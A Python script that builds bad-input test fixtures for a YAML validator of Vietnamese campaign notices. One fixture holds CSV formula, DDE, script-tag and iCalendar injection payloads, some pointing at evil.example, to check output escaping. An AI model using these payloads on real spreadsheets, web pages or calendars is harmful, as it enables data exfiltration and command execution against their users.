#!/usr/bin/env python3
"""Writes the input files, `args` and helper scripts of the bad-input cases.

The generated files are committed; this script only records how they were made (several are
binary, or hold bytes an editor would not keep: BOMs, CR line ends, invalid UTF-8, NUL bytes,
invisible characters) and can remake them after a deliberate change:

    python3 tests/cases/bad-input/make-inputs.py

It writes inputs, `args`, `setup`, `check` and `unprivileged`, never the expected outputs
(`stdout`, `stderr`, `status`): those of tests/cases/bad-input/ come from
`UPDATE_GOLDEN=1 ctest -R bad-input` and were reviewed one by one, or, for a case written with
`pending(...)`, by hand in tests/cases/bad-input-pending/<case>/ beside `args.pending` (the
behaviour it expects is not there yet; rename `args.pending` to `args` and move the folder here
once it is). Everything is deterministic (the "random" junk uses a fixed seed).
"""

import io
import os
import random
import shutil
import stat
import unicodedata
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
PENDING = HERE.parent / "bad-input-pending"

# The valid notice of tests/cases/validate/valid: every case changes a few bytes of it.
BASE = """\
format: campaign/1
bodies:
  - {id: ubnd-huyen, name: UBND huyện}
  - {id: ubmttq-huyen, name: Ủy ban MTTQ Việt Nam huyện}
units:
  - {id: tan-lap, name: Xã Tân Lập, kind: commune}
  - {id: dak-rve, name: Thị trấn Đăk Rve, kind: town}
document:
  number: 01-TB/BCĐ
  kind: notice
  issued: 2024-07-11
  issuer: ubnd-huyen
  title: Thông báo kết luận (bản thử)
directives:
  - number: 1
    responsible: [ubnd-huyen]
    tasks:
      - text: Tổ chức tham quan mô hình
        due: tháng 7/2024
      - text: Báo cáo kết quả
        report: {every: quarter, via: ubmttq-huyen}
indicators:
  - id: "1"
    name: Tỷ lệ sinh con thứ 3 trở lên
    unit: percent
    better: lower
    year: 2024
    total: 18.5
    total_rule: mean
    targets:
      tan-lap: 22
      dak-rve: 15
"""

REGISTRY = """\
format: campaign/1
area: {name: huyện Kon Rẫy, kind: district}
bodies:
  - {id: ubnd-huyen, name: UBND huyện}
  - {id: bcd-huyen, name: BCĐ Cuộc vận động huyện}
units:
  - {id: tan-lap, name: Xã Tân Lập, kind: commune}
  - {id: dak-rve, name: Thị trấn Đăk Rve, kind: town}
"""

NOTICE = """\
format: campaign/1
document:
  number: 02-TB/BCĐ
  kind: notice
  issued: 2024-07-11
  issuer: bcd-huyen
  title: Thông báo kết luận (bản thử)
  registry: registry.yaml
directives:
  - number: 1
    responsible: [ubnd-huyen]
    tasks:
      - text: Tổ chức tham quan mô hình
        due: tháng 7/2024
"""


# A whole file whose last line opens a quote and never closes it.
UNCLOSED_AT_END = """\
format: campaign/1
bodies:
  - {id: ubnd-huyen, name: UBND huyện}
document:
  number: 01-TB/BCĐ
  kind: notice
  issued: 2024-07-11
  issuer: ubnd-huyen
  title: 'Thông báo kết luận (bản thử)
"""


def edit(text, old, new, count=1):
    """`text` with `old` replaced by `new`; fails loudly when `old` is not there."""
    assert old in text, old
    return text.replace(old, new, count)


def utf8(text):
    return text.encode("utf-8")


class Symlink(str):
    """A file entry that is a symbolic link to the given target."""


SETUP_CHMOD = "#!/bin/sh\n# git stores no mode 000: take the read permission away here.\nchmod 000 {}\n"


def write_case(root, name, files, args, setup=None, check=None, unprivileged=False):
    folder = root / name
    if folder.exists():  # inputs only: keep the reviewed goldens
        for child in folder.iterdir():
            if child.name in ("stdout", "stderr", "status"):
                continue
            if child.is_dir() and not child.is_symlink():
                shutil.rmtree(child)
            else:
                child.unlink()
    folder.mkdir(parents=True, exist_ok=True)
    for relative, content in files.items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Symlink):
            os.symlink(str(content), path)
        else:
            path.write_bytes(content if isinstance(content, bytes) else utf8(content))
    args_name = "args.pending" if root == PENDING else "args"
    (folder / args_name).write_text("".join(a + "\n" for a in args), encoding="utf-8")
    for script_name, body in (("setup", setup), ("check", check)):
        if body:
            script = folder / script_name
            script.write_text(body, encoding="utf-8")
            script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    if unprivileged:
        (folder / "unprivileged").write_text(
            "Marker for tests/run-case.sh: as root, the binary runs as nobody so that mode 000 applies.\n",
            encoding="utf-8")


def png_bytes():
    """A 1x1 PNG: what a clerk gets by saving a screenshot of the notice as notice.yaml."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def xlsx_bytes():
    """The start of a workbook (a zip archive): an Excel file renamed to .yaml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("[Content_Types].xml", date_time=(2024, 7, 11, 8, 0, 0))
        z.writestr(info, '<?xml version="1.0" encoding="UTF-8"?>\n<Types xmlns="http://schemas.'
                         'openxmlformats.org/package/2006/content-types"/>\n')
    return buffer.getvalue()


def random_junk():
    rng = random.Random(20240711)
    data = bytearray(rng.randrange(256) for _ in range(512))
    data[0] = 0xC3  # a lead byte followed by a non-continuation byte: invalid at offset 0
    data[1] = 0x28
    return bytes(data)


def main():
    V = ["validate"]
    cases = []  # (root, name, files, args, extra)

    files_of = {}

    def case(name, files, args, root=HERE, **extra):
        cases.append((root, name, files, args, extra))
        files_of[name] = files

    def same(name):
        """The inputs of an earlier case: each case folder holds its own inputs, so that the
        paths in diagnostics are relative and do not depend on where the repository is."""
        return dict(files_of[name])

    def pending(name, files, args, **extra):
        case(name, files, args, root=PENDING, **extra)

    # --- Encodings and line ends that are valid: they must load as if plain UTF-8 ---------------
    case("utf8-no-bom", {"notice.yaml": BASE}, V + ["notice.yaml"])
    case("utf8-bom", {"notice.yaml": b"\xef\xbb\xbf" + utf8(BASE)}, V + ["notice.yaml"])
    case("utf8-bom-error-column", {"notice.yaml": b"\xef\xbb\xbf" + utf8(edit(BASE, "campaign/1", "campaign/2"))},
         V + ["notice.yaml"])
    notepad = edit(BASE, "\n", "\r\n", -1)
    case("utf16le-bom", {"notice.yaml": b"\xff\xfe" + notepad.encode("utf-16-le")}, V + ["notice.yaml"])
    case("utf16be-bom", {"notice.yaml": b"\xfe\xff" + BASE.encode("utf-16-be")}, V + ["notice.yaml"])
    case("utf16le-bom-targets", same("utf16le-bom"), ["targets", "notice.yaml"])
    case("utf16le-bom-error-position",
         {"notice.yaml": b"\xff\xfe" + edit(edit(BASE, "kind: notice", "kind: thông báo"), "\n", "\r\n", -1).encode("utf-16-le")},
         V + ["notice.yaml"])
    case("utf16be-bom-check-deadlines", same("utf16be-bom"), ["check-deadlines", "notice.yaml",
                                             "--as-of", "2024-08-01"])
    case("crlf", {"notice.yaml": edit(BASE, "\n", "\r\n", -1)}, V + ["notice.yaml"])
    case("crlf-error-position", {"notice.yaml": edit(edit(BASE, "kind: notice", "kind: notise"), "\n", "\r\n", -1)},
         V + ["notice.yaml"])
    folded = edit(BASE, "- text: Tổ chức tham quan mô hình", "- text: >-\n          Tổ chức tham quan\n          mô hình")
    case("crlf-folded-text", {"notice.yaml": edit(folded, "\n", "\r\n", -1)},
         ["check-deadlines", "notice.yaml", "--as-of", "2024-07-20", "--format", "csv"])
    case("lone-cr", {"notice.yaml": edit(BASE, "\n", "\r", -1)}, V + ["notice.yaml"])
    case("lone-cr-error-position", {"notice.yaml": edit(edit(BASE, "kind: notice", "kind: notise"), "\n", "\r", -1)},
         V + ["notice.yaml"])
    lines = edit(BASE, "kind: notice", "kind: notise").split("\n")
    mixed = "".join(line + ("\n", "\r\n", "\r")[i % 3] for i, line in enumerate(lines[:-1]))
    case("mixed-line-ends", {"notice.yaml": mixed}, V + ["notice.yaml"])

    # --- Vietnamese in NFD: one W001 per file, ids equal to their NFC spelling ------------------
    nfd_registry = """\
format: campaign/1
area: {name: huyện Kon Rẫy, kind: district}
bodies:
  - {id: ubnd-huyện, name: UBND huyện}
  - {id: bcđ-huyện, name: BCĐ Cuộc vận động huyện}
units:
  - {id: tân-lập, name: Xã Tân Lập, kind: commune}
  - {id: đăk-tôre, name: Xã Đăk Tôre, kind: commune}
"""
    nfd_notice = """\
format: campaign/1
document:
  number: 05-TB/BCĐ
  kind: notice
  issued: 2024-07-11
  issuer: bcđ-huyện
  title: Thông báo kết luận (bản thử)
  registry: registry.yaml
directives:
  - number: 1
    responsible: [ubnd-huyện]
    tasks:
      - text: Tổ chức tham quan mô hình
        due: tháng 7/2024
indicators:
  - id: "1"
    name: Tỷ lệ sinh con thứ 3 trở lên
    unit: percent
    better: lower
    year: 2024
    total: 32
    total_rule: mean
    targets:
      tân-lập: 22
      đăk-tôre: 42
"""
    NFC = lambda t: unicodedata.normalize("NFC", t)
    NFD = lambda t: unicodedata.normalize("NFD", t)
    case("nfd-notice-nfc-registry", {"registry.yaml": NFC(nfd_registry), "notice.yaml": NFD(nfd_notice)},
         V + ["notice.yaml"])
    case("nfd-registry-nfc-notice", {"registry.yaml": NFD(nfd_registry), "notice.yaml": NFC(nfd_notice)},
         V + ["notice.yaml"])
    case("nfd-targets", same("nfd-notice-nfc-registry"), ["targets", "notice.yaml"])
    dup_nfd_targets = edit(NFC(nfd_notice), "      đăk-tôre: 42\n", "      đăk-tôre: 42\n" + NFD("      tân-lập: 20\n"))
    case("nfd-duplicate-target-key", {"registry.yaml": NFC(nfd_registry), "notice.yaml": dup_nfd_targets},
         V + ["notice.yaml"])

    # --- Invalid UTF-8: E002 with file, line, column and byte offset ------------------------------
    b = utf8(BASE)
    case("invalid-utf8-overlong", {"notice.yaml": b.replace(utf8("Tổ chức"), b"T\xc0\xafo", 1)}, V + ["notice.yaml"])
    case("invalid-utf8-surrogate", {"notice.yaml": b.replace(utf8("Báo cáo kết quả"), b"B\xed\xa0\x80o", 1)},
         V + ["notice.yaml"])
    cut = b.index(utf8("huyện")) + 5  # "huy" and the first two of the three bytes of "ệ"
    case("invalid-utf8-truncated-at-end", {"notice.yaml": b[:cut]}, V + ["notice.yaml"])
    # ASCII only, so that the byte is the only non-ASCII one.
    ascii_registry = utf8("format: campaign/1\nbodies:\n  - {id: ubnd-huyen, name: UBND huyen}\n")
    case("invalid-utf8-first-byte", {"registry.yaml": b"\xfe" + ascii_registry}, V + ["registry.yaml"])
    case("invalid-utf8-after-bom", {"registry.yaml": b"\xef\xbb\xbf" + ascii_registry.replace(b"bodies", b"b\xf8dies")},
         V + ["registry.yaml"])
    # Once pending (bad-input-pending), enabled with the fixes of 48525b0 in src/campaign/load/source.cpp.
    case("invalid-utf8-in-vietnamese-text", {"notice.yaml": utf8(BASE).replace(b"UBND huy", b"UBND \x80huy", 1)},
         V + ["notice.yaml"])
    case("nul-bytes", {"notice.yaml": edit(BASE, "units:\n", "\0\0\0\0units:\n")}, V + ["notice.yaml"])
    case("utf16le-no-bom", {"notice.yaml": BASE.encode("utf-16-le")}, V + ["notice.yaml"])
    case("binary-xlsx", {"notice.yaml": xlsx_bytes()}, V + ["notice.yaml"])
    case("utf16le-odd-length", {"notice.yaml": b"\xff\xfe" + BASE.encode("utf-16-le") + b"\n"}, V + ["notice.yaml"])
    case("utf16le-lone-surrogate",
         {"notice.yaml": b"\xff\xfe" + edit(BASE, "Tỷ lệ", "T\ud800 lệ").encode("utf-16-le", "surrogatepass")},
         V + ["notice.yaml"])
    case("invalid-utf8-check-deadlines", same("invalid-utf8-overlong"), ["check-deadlines", "notice.yaml",
                                              "--as-of", "2024-08-01"])

    # --- Invisible characters: errors in ids, kept as written in free text -----------------------
    case("id-zero-width-space-reference",
         {"notice.yaml": edit(BASE, "responsible: [ubnd-huyen]", "responsible: [ubnd-huyen\u200b]")}, V + ["notice.yaml"])
    case("id-no-break-space",
         {"notice.yaml": edit(edit(BASE, "{id: tan-lap", "{id: tan\u00a0lap"), "      tan-lap: 22", "      tan\u00a0lap: 22")},
         V + ["notice.yaml"])
    case("id-bom-in-middle", {"notice.yaml": edit(BASE, "{id: ubmttq-huyen", "{id: ubmttq\ufeff-huyen")}, V + ["notice.yaml"])
    case("id-narrow-no-break-space-submission", {
        "notice.yaml": BASE,
        "submissions.yaml": "format: campaign/1\nsubmissions:\n"
                            "  - {task: \"01-TB/BCĐ#1.2\", body: ubnd-huyen\u202f, period: Q3/2024, received: 2024-09-28}\n"},
         V + ["notice.yaml", "submissions.yaml"])
    free = edit(edit(edit(BASE, "UBND huyện}", "UBND\u00a0huyện\u200b}"), "Tỷ lệ sinh con", "Tỷ\u00a0lệ\ufeff sinh\u200b con"),
                "Tổ chức tham", "Tổ\u200bchức\u2060 tham")
    case("free-text-invisible", {"notice.yaml": free}, V + ["notice.yaml"])
    case("free-text-invisible-csv", same("free-text-invisible"), ["targets", "notice.yaml",
                                         "--format", "csv"])

    # --- Size limit -------------------------------------------------------------------------------
    case("max-file-size", {"notice.yaml": BASE}, V + ["notice.yaml", "--max-file-size", "800"])
    case("max-file-size-registry", {"registry.yaml": REGISTRY + "# " + "x" * 300 + "\n", "notice.yaml": NOTICE},
         V + ["notice.yaml", "--max-file-size", "400"])
    case("max-file-size-in-directory", {"dir/registry.yaml": REGISTRY, "dir/notice.yaml": NOTICE,
                                        "dir/scan.yaml": "# " + "quét " * 200 + "\n"},
         V + ["dir", "--max-file-size", "1000"])
    case("max-file-size-negative", {"notice.yaml": BASE}, V + ["notice.yaml", "--max-file-size", "-1"])
    case("max-file-size-overflow", {"notice.yaml": BASE}, V + ["notice.yaml", "--max-file-size", "99999999999999999999999"])

    # --- YAML syntax errors clerks make -------------------------------------------------------------
    case("tab-indent-list-item", {"notice.yaml": edit(BASE, "      - text: Báo cáo", "\t- text: Báo cáo")}, V + ["notice.yaml"])
    case("tab-indent-key", {"notice.yaml": edit(BASE, "  kind: notice", "\tkind: notice")}, V + ["notice.yaml"])
    case("unclosed-bracket", {"notice.yaml": edit(BASE, "responsible: [ubnd-huyen]", "responsible: [ubnd-huyen")},
         V + ["notice.yaml"])
    case("unclosed-brace-last-line",
         {"notice.yaml": edit(BASE, "report: {every: quarter, via: ubmttq-huyen}", "report: {every: quarter, via: ubmttq-huyen")},
         V + ["notice.yaml"])
    case("colon-in-value", {"notice.yaml": edit(BASE, "title: Thông báo kết luận (bản thử)",
                                               "title: Thông báo kết luận: Hội nghị giao ban quý II")}, V + ["notice.yaml"])
    case("colon-at-end", {"notice.yaml": edit(BASE, "  - number: 1\n", "  - number: 1\n    text: UBND huyện:\n")},
         V + ["notice.yaml"])
    case("indent-too-deep", {"notice.yaml": edit(BASE, "  issuer: ubnd-huyen", "    issuer: ubnd-huyen")}, V + ["notice.yaml"])
    case("indent-too-shallow", {"notice.yaml": edit(BASE, "        due: tháng 7/2024", "       due: tháng 7/2024")},
         V + ["notice.yaml"])
    case("indent-list-item", {"notice.yaml": edit(BASE, "  - {id: dak-rve", "   - {id: dak-rve")}, V + ["notice.yaml"])
    case("backslash-in-double-quotes",
         {"notice.yaml": edit(BASE, "title: Thông báo kết luận (bản thử)", 'title: "Lưu tại D:\\Văn bản\\2024"')},
         V + ["notice.yaml"])
    case("undefined-alias", {"notice.yaml": edit(BASE, "responsible: [ubnd-huyen]", "responsible: *ubnd")}, V + ["notice.yaml"])
    case("yaml-error-check-deadlines", same("colon-in-value"), ["check-deadlines", "notice.yaml",
                                            "--as-of", "2024-08-01"])

    # --- Duplicate keys -----------------------------------------------------------------------------
    case("duplicate-section", {"notice.yaml": BASE + "bodies:\n  - {id: bcd-huyen, name: BCĐ huyện}\n"}, V + ["notice.yaml"])
    case("duplicate-key-flow-mapping",
         {"notice.yaml": edit(BASE, "{id: tan-lap, name: Xã Tân Lập, kind: commune}",
                              "{id: tan-lap, name: Xã Tân Lập, kind: commune, name: Tân Lập}")}, V + ["notice.yaml"])
    case("duplicate-target-unit", {"notice.yaml": edit(BASE, "      dak-rve: 15\n", "      dak-rve: 15\n      tan-lap: 20\n")},
         V + ["notice.yaml"])

    # --- Truncated, empty, comment-only, wrong top level --------------------------------------------
    case("truncated-after-key", {"notice.yaml": BASE[:BASE.index("  issuer: ubnd-huyen") + len("  issuer: ")]},
         V + ["notice.yaml"])
    case("truncated-in-key", {"notice.yaml": BASE[:BASE.index("  issuer: ubnd-huyen") + len("  iss")]}, V + ["notice.yaml"])
    case("empty-file", {"notice.yaml": b""}, V + ["notice.yaml"])
    case("whitespace-only", {"notice.yaml": "\n   \n\n"}, V + ["notice.yaml"])
    case("bom-only", {"notice.yaml": b"\xef\xbb\xbf"}, V + ["notice.yaml"])
    case("utf16-bom-only", {"notice.yaml": b"\xff\xfe"}, V + ["notice.yaml"])
    case("top-level-scalar", {"notice.yaml": "Thông báo kết luận số 01-TB/BCĐ\n"}, V + ["notice.yaml"])
    case("top-level-list", {"notice.yaml": "- format: campaign/1\n- bodies:\n    - {id: ubnd-huyen, name: UBND huyện}\n"},
         V + ["notice.yaml"])
    case("empty-file-targets", same("empty-file"), ["targets", "notice.yaml"])

    # --- Binary junk --------------------------------------------------------------------------------
    case("binary-random", {"notice.yaml": random_junk()}, V + ["notice.yaml"])
    case("binary-png", {"notice.yaml": png_bytes()}, V + ["notice.yaml"])
    case("binary-pdf", {"notice.yaml": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"},
         V + ["notice.yaml"])

    # --- A directory where a file is expected -----------------------------------------------------
    case("output-is-directory-targets", {"notice.yaml": BASE}, ["targets", "notice.yaml", "--format", "csv",
                                             "--output", "chi-tieu.csv"],
         setup="#!/bin/sh\nmkdir chi-tieu.csv && echo 'a clerk keeps files here' > chi-tieu.csv/ghi-chu.txt\n",
         check="#!/bin/sh\n# The folder is untouched and no temporary file is left beside it.\n"
               "[ \"$(ls -A chi-tieu.csv)\" = ghi-chu.txt ] && [ -z \"$(ls -A | grep '^\\.chi-tieu')\" ]\n")
    case("output-is-directory-ics", {"notice.yaml": BASE}, ["check-deadlines", "notice.yaml",
                                         "--as-of", "2024-08-01", "--format", "ics", "--output", "lich"],
         setup="#!/bin/sh\nmkdir lich\n",
         check="#!/bin/sh\n[ -z \"$(ls -A lich)\" ] && [ -z \"$(ls -A | grep '^\\.lich')\" ]\n")
    case("output-not-written-on-bad-input", same("duplicate-section"), ["targets", "notice.yaml",
                                                 "--format", "csv", "--output", "chi-tieu.csv"],
         setup="#!/bin/sh\nprintf 'bản cũ\\n' > chi-tieu.csv\n",
         check="#!/bin/sh\n# The previous output is kept as it was, and no temporary file is left.\n"
               "[ \"$(cat chi-tieu.csv)\" = 'bản cũ' ] && [ -z \"$(ls -A | grep '^\\.chi-tieu')\" ]\n")

    # --- Permissions ----------------------------------------------------------------------------------
    case("unreadable-file", {"notice.yaml": BASE}, V + ["notice.yaml"],
         setup=SETUP_CHMOD.format("notice.yaml"), unprivileged=True)
    case("unreadable-registry", {"registry.yaml": REGISTRY, "notice.yaml": NOTICE}, V + ["notice.yaml"],
         setup=SETUP_CHMOD.format("registry.yaml"), unprivileged=True)
    case("unreadable-file-in-directory", {"dir/registry.yaml": REGISTRY, "dir/notice.yaml": NOTICE}, V + ["dir"],
         setup=SETUP_CHMOD.format("dir/registry.yaml"), unprivileged=True)
    case("unreadable-file-check-deadlines", {"notice.yaml": BASE}, ["check-deadlines", "notice.yaml", "--as-of", "2024-08-01"],
         setup=SETUP_CHMOD.format("notice.yaml"), unprivileged=True)

    # --- Symbolic links ---------------------------------------------------------------------------------
    case("symlink-directory-loop", {"dir/notice.yaml": BASE, "dir/loop": Symlink("."), "dir/sub/up": Symlink("..")},
         V + ["dir"])
    case("symlink-to-file", {"dir/registry.yaml": Symlink("../shared/registry.yaml"), "dir/notice.yaml": NOTICE,
                             "shared/registry.yaml": REGISTRY}, V + ["dir"])

    # --- Several files: the same id twice, the same file twice, a registry cycle -----------------
    other_registry = edit(REGISTRY, "{id: ubnd-huyen, name: UBND huyện}", "{id: ubnd-huyen, name: Ủy ban nhân dân huyện}")
    case("same-body-and-unit-in-two-files", {"dir/registry.yaml": REGISTRY, "dir/registry-copy.yaml": other_registry},
         V + ["dir"])
    notice_b = edit(edit(NOTICE, "Thông báo kết luận (bản thử)", "Thông báo kết luận (bản sửa)"), "2024-07-11", "2024-07-15")
    case("same-document-number-in-two-files", {"registry.yaml": REGISTRY, "notice.yaml": NOTICE, "notice-sua.yaml": notice_b},
         V + ["notice.yaml", "notice-sua.yaml"])
    case("same-document-number-check-deadlines", same("same-document-number-in-two-files"),
         ["check-deadlines", "notice.yaml", "notice-sua.yaml", "--as-of", "2024-08-01"])
    case("same-id-nfc-and-nfd-in-two-files",
         {"a.yaml": NFC("format: campaign/1\nunits:\n  - {id: đăk-tôre, name: Xã Đăk Tôre, kind: commune}\n"),
          "b.yaml": NFD("format: campaign/1\nunits:\n  - {id: đăk-tôre, name: Xã Đăk Tô Re, kind: commune}\n")},
         V + ["a.yaml", "b.yaml"])
    second_indicator = """\
  - id: "1"
    name: Số hộ thoát nghèo
    unit: hộ
    better: higher
    year: 2024
    targets:
      tan-lap: 40
      dak-rve: 25
"""
    case("same-indicator-id-twice", {"notice.yaml": BASE + second_indicator}, V + ["notice.yaml"])
    case("same-file-named-three-ways", {"registry.yaml": REGISTRY, "notice.yaml": NOTICE},
         V + ["notice.yaml", "registry.yaml", "./registry.yaml", "."])
    reg_a = edit(NOTICE, "registry: registry.yaml", "registry: [b.yaml, registry.yaml]")
    reg_b = """\
format: campaign/1
document:
  number: 03-TB/BCĐ
  kind: notice
  issued: 2024-07-12
  issuer: bcd-huyen
  title: Thông báo kèm theo (bản thử)
  registry: [a.yaml, ./a.yaml, b.yaml, registry.yaml]
"""
    case("registry-cycle", {"registry.yaml": REGISTRY, "a.yaml": reg_a, "b.yaml": reg_b}, V + ["a.yaml"])

    # --- Text that is dangerous in CSV, HTML and iCalendar: neutralised or escaped ---------------
    danger = """\
format: campaign/1
area: {name: huyện Kon Rẫy, kind: district}
bodies:
  - {id: ubnd-huyen, name: "=HYPERLINK(\\"http://evil.example/?q=\\"&A1,\\"Bấm vào đây\\")"}
  - {id: ubmttq-huyen, name: "<script>alert('MTTQ')</script>"}
  - {id: bcd-xa, name: "@SUM(1+1)*cmd|' /C calc'!A0", per_unit: true}
units:
  - {id: tan-lap, name: "+84 Xã Tân Lập", kind: commune}
  - {id: dak-rve, name: "-2+3 Thị trấn Đăk Rve", kind: town}
  - {id: dak-koi, name: "<img src=x onerror=alert(1)> & \\"Đăk Kôi\\"", kind: commune}
document:
  number: 07-TB/BCĐ
  kind: notice
  issued: 2024-07-11
  issuer: ubnd-huyen
  title: "=cmd|' /C notepad'!A1"
directives:
  - number: 1
    responsible: [ubnd-huyen, bcd-xa]
    tasks:
      - text: "=HYPERLINK(\\"http://evil.example\\",\\"Chi tiết\\")"
        due: tháng 7/2024
      - text: "<script>document.location='http://evil.example'</script>; báo cáo hàng quý"
        report: {every: quarter, via: ubmttq-huyen}
      - text: "@tổ chức; \\"hội nghị\\", tháng 8\\r\\nEND:VEVENT\\r\\nBEGIN:VEVENT"
        due: tháng 8/2024
      - text: "\\t=1+2 (tab first)"
        due: tháng 8/2024
indicators:
  - id: "1"
    name: "=1+1 Tỷ lệ <b>sinh</b> con thứ 3"
    unit: percent
    better: lower
    year: 2024
    total: 20
    total_rule: mean
    targets:
      tan-lap: 22
      dak-rve: 18
      dak-koi: 20
"""
    case("dangerous-text-validate", {"notice.yaml": danger}, V + ["notice.yaml"])
    D = "dangerous-text-validate"
    case("dangerous-text-targets-csv", same(D), ["targets", "notice.yaml", "--format", "csv"])
    case("dangerous-text-targets-html", same(D), ["targets", "notice.yaml", "--format", "html"])
    case("dangerous-text-check-deadlines-csv", same(D), ["check-deadlines", "notice.yaml", "--as-of", "2024-08-01",
                                                         "--format", "csv"])
    case("dangerous-text-check-deadlines-ics", same(D), ["check-deadlines", "notice.yaml", "--as-of", "2024-08-01",
                                                         "--format", "ics"])

    results = """\
format: campaign/1
results:
  - indicator: "07-TB/BCĐ#1"
    period: "2024"
    as_of: 2024-12-31
    values:
      tan-lap: 21.4
      dak-rve: 19
      dak-koi: 20
"""
    case("dangerous-text-compare-csv", dict(same(D), **{"results.yaml": results}),
         ["compare", "notice.yaml", "results.yaml", "--format", "csv"])
    case("dangerous-text-compare-html", dict(same(D), **{"results.yaml": results}),
         ["compare", "notice.yaml", "results.yaml", "--format", "html"])
    case("truncated-results-compare", dict(same(D), **{"results.yaml": results[:results.index("values:") + 4]}),
         ["compare", "notice.yaml", "results.yaml"])

    # --- Input files are only read -----------------------------------------------------------------
    case("input-unchanged", same("utf16le-bom"), V + ["notice.yaml"],
         check="#!/bin/sh\n# validate never rewrites its input, not even to convert it to UTF-8.\n"
               "echo '{}  notice.yaml' | sha256sum -c --quiet\n".format(
                   __import__("hashlib").sha256(files_of["utf16le-bom"]["notice.yaml"]).hexdigest()))

    # --- An empty value in a unit mapping (was pending) ------------------------------------------------
    # `tan-lap:` with nothing after it is not `~`: an error at the key, in `targets` and in `values`.
    case("empty-target-value", {"notice.yaml": edit(edit(BASE, "      tan-lap: 22", "      tan-lap:"),
                                                        "    total_rule: mean\n", "")}, V + ["notice.yaml"])
    case("empty-result-value", {"notice.yaml": BASE, "results.yaml": """\
format: campaign/1
results:
  - indicator: "01-TB/BCĐ#1"
    period: "2024"
    as_of: 2024-12-31
    values:
      tan-lap:
      dak-rve: 14.5
"""}, V + ["notice.yaml", "results.yaml"])

    # The key `kind:` moved to column 1 inside `document:`: reported on its own line (was pending).
    case("indent-dedented-key", {"notice.yaml": edit(BASE, "  kind: notice", "kind: notice")}, V + ["notice.yaml"])

    # --- Once pending (their expected outputs were written by hand in bad-input-pending/), enabled
    # --- with the fixes of 474ede4 and 9af847a in src/campaign/load/ ------------------------------
    case("multiple-yaml-documents", {"notice.yaml": BASE + "---\nformat: campaign/1\nbodies:\n"
                                                             "  - {id: bcd-huyen, name: BCĐ huyện}\n"}, V + ["notice.yaml"])
    case("comment-only", {"notice.yaml": "# Thông báo kết luận số 01-TB/BCĐ: sẽ nhập sau\n"}, V + ["notice.yaml"])
    # The quote is on the last line: yaml-cpp takes the rest of the file as the string and says nothing.
    case("unclosed-single-quote-at-end", {"notice.yaml": UNCLOSED_AT_END}, V + ["notice.yaml"])
    case("unclosed-double-quote", {"notice.yaml": edit(BASE, "title: Thông báo kết luận (bản thử)",
                                                          'title: "Thông báo kết luận (bản thử)')}, V + ["notice.yaml"])
    case("unclosed-brace-mid-file", {"notice.yaml": edit(BASE, "  - {id: tan-lap, name: Xã Tân Lập, kind: commune}",
                                                            "  - {id: tan-lap, name: Xã Tân Lập, kind: commune")},
            V + ["notice.yaml"])
    case("hash-in-flow-mapping", {"notice.yaml": BASE, "completions.yaml": "format: campaign/1\ncompletions:\n"
                                                         "  - {task: 01-TB/BCĐ #1.1, date: 2024-07-25}\n"},
            V + ["notice.yaml", "completions.yaml"])
    case("tab-after-dash", {"notice.yaml": edit(BASE, "      - text: Báo cáo", "      -\ttext: Báo cáo")}, V + ["notice.yaml"])
    case("key-without-space", {"notice.yaml": edit(BASE, "  kind: notice", "  kind:notice")}, V + ["notice.yaml"])
    case("dash-without-space", {"notice.yaml": edit(BASE, "  - {id: dak-rve", "  -{id: dak-rve")}, V + ["notice.yaml"])
    case("truncated-in-flow-mapping", {"notice.yaml": BASE[:BASE.index("kind: town}") + len("kind:")]}, V + ["notice.yaml"])
    case("truncated-in-quoted-string",
            {"notice.yaml": edit(BASE, "title: Thông báo kết luận (bản thử)", 'title: "Thông báo kết luận (bản thử)"')
             [:BASE.index("title:") + len('title: "Thông báo kế')]}, V + ["notice.yaml"])
    case("key-zero-width-space", {"notice.yaml": edit(BASE, "  issuer:", "  issuer\u200b:")}, V + ["notice.yaml"])
    case("registry-is-directory", {"notice.yaml": NOTICE, "registry.yaml/README.txt": "a folder named like a file\n"},
            V + ["notice.yaml"])
    case("symlink-loop-in-directory", {"dir/notice.yaml": BASE, "dir/a.yaml": Symlink("b.yaml"),
                                         "dir/b.yaml": Symlink("a.yaml"), "dir/loop": Symlink("."),
                                         "dir/moved.yaml": Symlink("../old/moved.yaml")}, V + ["dir"])
    case("symlink-loop-file-argument", {"a.yaml": Symlink("b.yaml"), "b.yaml": Symlink("a.yaml")}, V + ["a.yaml"])
    case("unreadable-subdirectory", {"dir/notice.yaml": BASE, "dir/private/registry.yaml": REGISTRY}, V + ["dir"],
            setup=SETUP_CHMOD.format("dir/private"), unprivileged=True)
    case("fifo", {}, V + ["notice.yaml"], setup="#!/bin/sh\nmkfifo notice.yaml\n")

    for root, name, files, args, extra in cases:
        write_case(root, name, files, args, **extra)
    for root in (HERE, PENDING):
        names = {name for r, name, *_ in cases if r == root}
        for folder in (root.iterdir() if root.exists() else []):
            if folder.is_dir() and folder.name not in names:
                print(f"note: {folder} is not made by this script")


if __name__ == "__main__":
    main()
